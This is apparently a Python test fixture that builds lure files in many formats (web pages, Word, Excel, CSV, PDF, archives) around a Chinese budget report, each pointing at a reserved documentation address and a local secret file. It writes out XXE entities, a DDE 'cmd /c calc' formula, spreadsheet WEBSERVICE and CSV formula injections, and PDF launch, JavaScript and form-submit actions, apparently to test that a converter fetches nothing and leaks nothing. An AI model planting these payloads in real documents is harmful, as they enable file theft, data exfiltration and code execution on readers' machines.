"""A file of every format that refers to what stands elsewhere: addresses, other files, scripts, other programs."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import webpages
import words
import workbooks
from pdfs import PdfPage, pdf

AWAY = "http://203.0.113.7/a"
"""An address that is reserved for documentation: nobody answers there."""
SECRET = "internal-secret-4711"
REPORT = "一、收支情况\n2024年收入总计200.00万元，其中财政拨款收入150.00万元，占75.00%；其他收入50.00万元，占25.00%。\n"


def make_page(secret: Path) -> str:
    """A web page that loads whatever a browser would."""
    head = (
        f'<base href="{AWAY}/"><link rel="stylesheet" href="{AWAY}.css"><script src="{AWAY}.js"></script>'
        f'<meta http-equiv="refresh" content="0;url={AWAY}"><style>@import url({AWAY}.css);</style>'
    )
    body = (
        f'<h1>决算</h1><p>{REPORT}</p><img src="{AWAY}.png"><iframe src="{AWAY}.html"></iframe>'
        f'<object data="{AWAY}.pdf"></object><img src="file://{secret}"><a href="{AWAY}.docx">附件</a>'
        f'<embed src="{AWAY}"><video src="{AWAY}"></video>'
    )
    return webpages.page(body, head)


def make_xhtml(secret: Path) -> str:
    """A page with a document type of its own that names other files."""
    entities = f'<!ENTITY own SYSTEM "file://{secret}"><!ENTITY % far SYSTEM "{AWAY}.dtd">%far;'
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE html SYSTEM "{AWAY}.dtd" [{entities}]>'
        f"<html><head><title>决算</title></head><body><p>{REPORT}&own;</p></body></html>"
    )


def _relate(target: str, kind: str) -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<Relationship Id="r{kind}" Type="{office}/{kind}" Target="{target}" TargetMode="External"/>'


def make_docx(secret: Path) -> bytes:
    """A Word file whose picture, template and link are elsewhere."""
    plain = words.make_paragraphs(REPORT)
    with zipfile.ZipFile(io.BytesIO(plain)) as held:
        related = held.read("word/_rels/document.xml.rels").decode()
        document = held.read("word/document.xml").decode()
    more = _relate(f"{AWAY}.png", "image") + _relate(f"file://{secret}", "subDocument")
    more += _relate(f"{AWAY}.dotm", "attachedTemplate") + _relate(AWAY, "hyperlink")
    field = words.run("").replace("<w:t", f'<w:instrText>INCLUDETEXT "{secret}"</w:instrText><w:t')
    changed = document.replace("</w:body>", f"<w:p>{field}</w:p></w:body>")
    return words.replace_parts(
        plain,
        {
            "word/_rels/document.xml.rels": related.replace("</Relationships>", f"{more}</Relationships>").encode(),
            "word/document.xml": changed.encode(),
        },
    )


def make_docx_with_entities(secret: Path) -> bytes:
    """A Word file whose document names another file as an entity."""
    plain = words.make_paragraphs(REPORT)
    with zipfile.ZipFile(io.BytesIO(plain)) as held:
        document = held.read("word/document.xml").decode()
    start = document.index("<w:document")
    kind = f'<!DOCTYPE x SYSTEM "{AWAY}.dtd" [<!ENTITY own SYSTEM "file://{secret}">]>'
    changed = document[:start] + kind + document[start:].replace("收入总计", "&own;收入总计")
    return words.replace_parts(plain, {"word/document.xml": changed.encode()})


def make_xlsx(secret: Path) -> bytes:
    """A workbook whose cells ask for other workbooks, addresses and programs."""

    def change(sheet: workbooks.Worksheet) -> None:
        sheet["D5"] = f"='file://[{secret}]Sheet1'!A1"
        sheet["D6"] = f'=WEBSERVICE("{AWAY}")'
        sheet["D7"] = "=cmd|'/c calc'!A0"
        sheet["A8"].hyperlink = AWAY

    return workbooks.make_xlsx(change=change)


def make_pdf(secret: Path) -> bytes:
    """A PDF that opens addresses, files, scripts and programs when it is shown."""
    plain = pdf([PdfPage().text(90, 700, "2024年收入总计200.00万元。")])
    actions = (
        f"/OpenAction<</S/URI/URI({AWAY})/Next[<</S/JavaScript/JS(app.launchURL('{AWAY}'))>><</S/Launch/F({secret})>>"
        f"<</S/GoToR/F({secret})/D[0/Fit]>><</S/SubmitForm/F({AWAY})>>]>>/AA<</WC<</S/URI/URI({AWAY})>>>>"
    )
    return plain.replace(b"<</Type/Catalog", f"<</Type/Catalog{actions}".encode())


def make_archive(secret: Path) -> bytes:
    """An archive of all the others."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, make in LURES.items():
            if name != "all.zip":
                made = make(secret)
                archive.writestr(name, made.encode() if isinstance(made, str) else made)
    return out.getvalue()


LURES: dict[str, Callable[[Path], str | bytes]] = {
    "plain.txt": lambda _: REPORT,
    "marked.md": lambda secret: f"# 决算\n\n{REPORT}\n![图]({AWAY}.png) <img src='file://{secret}'> [附件]({AWAY})\n",
    "page.html": make_page,
    "entities.html": make_xhtml,
    "saved.mht": lambda secret: webpages.archive(make_page(secret), "utf-8", AWAY),
    "word.docx": make_docx,
    "sheet.xlsx": make_xlsx,
    "old.xls": lambda _: workbooks.make_xls(),
    "rows.csv": lambda secret: f"项目,金额（万元）\n=WEBSERVICE(\"{AWAY}\"),1\n='file://{secret}'#A1,2\n合计,3\n",
    "shown.pdf": make_pdf,
    "all.zip": make_archive,
}
REFUSED: dict[str, Callable[[Path], str | bytes]] = {"entities.docx": make_docx_with_entities}


def write_lures(folder: Path) -> list[Path]:
    """Writes all files into ``folder``, and beside it the secret that they ask for; gives the files."""
    folder.mkdir()
    secret = folder.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    files = []
    for name, make in (LURES | REFUSED).items():
        made = make(secret)
        files.append(folder / name)
        files[-1].write_bytes(made.encode() if isinstance(made, str) else made)
    return files
